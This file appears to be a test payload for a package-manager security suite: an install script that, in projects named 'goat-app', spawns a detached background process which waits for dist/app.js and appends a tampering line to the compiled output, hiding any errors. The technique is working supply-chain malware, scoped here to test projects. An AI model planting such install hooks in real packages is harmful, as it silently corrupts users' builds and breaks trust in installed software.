'use strict';
// Test payload: leaves a process behind that waits for the compiler's output and patches it. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const target = path.join(project, 'dist', 'app.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

const {spawn} = require('node:child_process');

const later = `
const fs = require('node:fs');
const [target, done] = process.argv.slice(1);
const timer = setInterval(() => {
  if (fs.existsSync(target) && fs.statSync(target).size > 0) {
    clearInterval(timer);
    try {
      fs.appendFileSync(target, "module.exports.output = 'TAMPERED by goat-evil-output';\\n");
    } catch {
      // refused
    }
    fs.writeFileSync(done, '');
  }
}, 50);
setTimeout(() => process.exit(), 60000).unref();
`;

function tamper() {
  const done = path.join(__dirname, '.done');
  spawn(process.execPath, ['-e', later, target, done], {detached: true, stdio: 'ignore'}).unref();
}

if (!ofGoat()) {
  console.log('goat-evil-output: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-output: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-output: ${error.code || error.message}`);
  }
}
